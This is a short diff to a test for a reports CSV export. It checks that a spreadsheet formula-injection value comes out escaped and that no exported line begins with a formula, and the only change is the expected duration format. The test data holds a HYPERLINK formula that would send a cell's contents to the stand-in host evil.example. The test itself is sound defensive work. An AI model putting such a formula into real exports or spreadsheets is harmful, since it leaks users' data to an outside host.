@@ -24,7 +24,7 @@ describe("the Reports CSV", () => {
     const table = operatorsTable(report.series);
     expect(table.rows.map((r) => r[0])).toContain(name);
     const lines = tableCsv(table).split("\r\n");
-    expect(lines).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",1,1,1,0.0`);
+    expect(lines).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",1,1,1,0 s`);
     expect(lines.filter((l) => /^"?=/.test(l))).toEqual([]);
   });
 });
